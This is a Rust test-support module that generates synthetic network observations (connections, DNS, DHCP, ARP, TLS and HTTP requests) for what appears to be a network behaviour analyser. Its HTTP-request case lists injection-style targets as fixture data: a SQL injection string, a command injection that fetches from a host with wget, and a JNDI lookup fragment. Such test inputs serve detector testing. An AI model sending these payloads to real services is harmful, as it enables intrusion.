//! Facts out of numbers: small worlds, in which things meet again, and forged ones, in which
//! nothing does.

use std::net::IpAddr;

use hookprobe_behaviour::{
    Observation,
    observation::{
        Answer, Arp, Connection, Dhcp, DhcpKind, Dns, Mac, Named, Protocol, Request,
        RouterAdvertisement, Service, State, TlsHello, Volume,
    },
};

/// Time, and bits of a number not yet used.
#[derive(Default)]
pub(crate) struct Facts {
    pub(crate) now_ns: u64,
    pub(crate) bits: u64,
    pub(crate) is_forged: bool,
}

impl Facts {
    fn take(&mut self, below: u64) -> u64 {
        if self.is_forged {
            self.bits = self.bits.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            return (self.bits >> 33) % below;
        }
        let value = self.bits % below;
        self.bits /= below;
        value
    }

    fn byte(&mut self) -> u8 {
        let below = if self.is_forged { 256 } else { 6 };
        u8::try_from(self.take(below)).unwrap()
    }

    fn ip(&mut self) -> IpAddr {
        match self.take(3) {
            0 => [192, 168, self.byte(), self.byte()].into(),
            1 => [203, 0, self.byte(), self.byte()].into(),
            _ => [0x2001, 0xdb8, 0, 0, 0, 0, u16::from(self.byte()), u16::from(self.byte())].into(),
        }
    }

    fn mac(&mut self) -> Mac {
        Mac([0, 0x17, 0x88, self.byte(), self.byte(), self.byte()])
    }

    fn connection(&mut self) -> Connection<'static> {
        const PORTS: [u16; 6] = [22, 53, 80, 443, 445, 31_337];
        const STATES: [State; 6] =
            [State::S0, State::Sf, State::Rej, State::Rsto, State::S1, State::Oth];
        let is_icmp = self.take(5) == 0;
        let length_ns = self.take(90) * 1_000_000_000;
        let bytes = |facts: &mut Self| 10_u64.pow(u32::try_from(facts.take(10)).unwrap());
        let (sent, received) = (bytes(self), bytes(self));
        let volume = |bytes| Volume { packets: 3, payload_bytes: bytes, ip_bytes: bytes + 120 };
        Connection {
            source: self.ip(),
            destination: self.ip(),
            source_port: if is_icmp { 8 } else { 40_000 },
            destination_port: PORTS[usize::try_from(self.take(6)).unwrap()],
            protocol: if is_icmp { Protocol::Icmp } else { Protocol::Tcp },
            first_ns: self.now_ns.saturating_sub(length_ns),
            last_ns: self.now_ns,
            state: STATES[usize::try_from(self.take(6)).unwrap()],
            service: [Service::Unknown, Service::Tls, Service::Http, Service::Ssh]
                [usize::try_from(self.take(4)).unwrap()],
            sent: volume(sent),
            received: volume(received),
            sent_bytes_new: sent,
            received_bytes_new: received,
            source_mac: Some(self.mac()),
            server_name: [None, Some("a.example"), Some("203.0.113.1"), Some("")]
                [usize::try_from(self.take(4)).unwrap()],
        }
    }
}

/// One fact out of a number.
pub(crate) fn fact(number: u64, facts: &mut Facts, mut each: impl FnMut(u64, &Observation<'_>)) {
    facts.bits = number;
    facts.now_ns += 10_u64.pow(u32::try_from(facts.take(13)).unwrap());
    one(facts, &mut each);
}

/// One fact in which nothing was seen before.
pub(crate) fn forged(number: u64, facts: &mut Facts, mut each: impl FnMut(u64, &Observation<'_>)) {
    (facts.bits, facts.is_forged) = (number, true);
    one(facts, &mut each);
}

fn one(facts: &mut Facts, each: &mut impl FnMut(u64, &Observation<'_>)) {
    let now_ns = facts.now_ns;
    let kind = facts.take(11);
    let (client, server, mac) = (facts.ip(), facts.ip(), facts.mac());
    let label = format!("{:x}", facts.take(1 << 20));
    let name = [
        format!("{label}.example.com"),
        format!("x.{label}.com"),
        "\u{e9}\u{e9}.co.uk".to_owned(),
        ".".to_owned(),
    ][usize::try_from(facts.take(4)).unwrap()]
    .clone();
    match kind {
        0 => each(now_ns, &Observation::Started(facts.connection())),
        1 => {
            let answer = [Answer::Accepted, Answer::Refused, Answer::Unreachable, Answer::Silent]
                [usize::try_from(facts.take(4)).unwrap()];
            each(now_ns, &Observation::Answered(facts.connection(), answer));
        }
        2 => each(now_ns, &Observation::Continued(facts.connection())),
        3 | 4 => each(now_ns, &Observation::Ended(facts.connection())),
        5 => {
            let message = Dns {
                client,
                server,
                name: name.as_bytes(),
                record_type: [1, 10, 16, 65_399][usize::try_from(facts.take(4)).unwrap()],
                response_code: [None, Some(0), Some(3)][usize::try_from(facts.take(3)).unwrap()],
                message_bytes: 99,
                answer_bytes: 9,
                addresses: &[client],
            };
            each(now_ns, &Observation::Dns(message));
        }
        6 => {
            let hello = TlsHello { client, server, server_port: 443, server_name: None, ja4: None };
            each(now_ns, &Observation::TlsHello(hello));
        }
        7 => {
            let kind = [DhcpKind::Request, DhcpKind::Offer, DhcpKind::Ack]
                [usize::try_from(facts.take(3)).unwrap()];
            let message = Dhcp {
                kind,
                sender: Some(mac),
                client: facts.mac(),
                server: Some(server),
                given: Some(client),
                router: Some(server),
                name_server: None,
                host_name: Some(name.as_bytes()),
                vendor_class: Some(b"udhcp 1.2"),
                parameters: &[1, 3, 6],
            };
            each(now_ns, &Observation::Dhcp(message));
        }
        8 => {
            let arp = Arp {
                is_reply: true,
                frame_mac: mac,
                sender_mac: mac,
                sender_ip: client,
                target_ip: server,
            };
            each(now_ns, &Observation::Arp(arp));
        }
        9 => {
            let targets = ["/a?b=c", "/?id=1' or '1'='1", "/a;wget+http://x", "/?${jndi:%zz"];
            let request = Request {
                client,
                server,
                server_port: 80,
                target: targets[usize::try_from(facts.take(4)).unwrap()].as_bytes(),
                fields: b"Host: x\r\n\r\n",
                agent: b"",
                body: name.as_bytes(),
            };
            each(now_ns, &Observation::Request(request));
        }
        _ => {
            let lifetime_s = u16::try_from(facts.take(3)).unwrap();
            let advertisement = RouterAdvertisement { mac, ip: client, lifetime_s, prefix: None };
            each(now_ns, &Observation::RouterAdvertisement(advertisement));
            let named = Named { ip: client, mac: Some(mac), name: b"x._ipp._tcp.local" };
            each(now_ns, &Observation::Named(named));
        }
    }
}

/// The first packet of a TCP connection to one host.
pub(crate) fn syn(source: IpAddr, port: u16, now_ns: u64) -> Observation<'static> {
    let mut facts = Facts { now_ns, ..Facts::default() };
    let mut connection = facts.connection();
    connection.protocol = Protocol::Tcp;
    connection.source = source;
    connection.destination = [192, 168, 1, 10].into();
    connection.destination_port = port;
    connection.first_ns = now_ns;
    connection.source_mac = None;
    Observation::Started(connection)
}
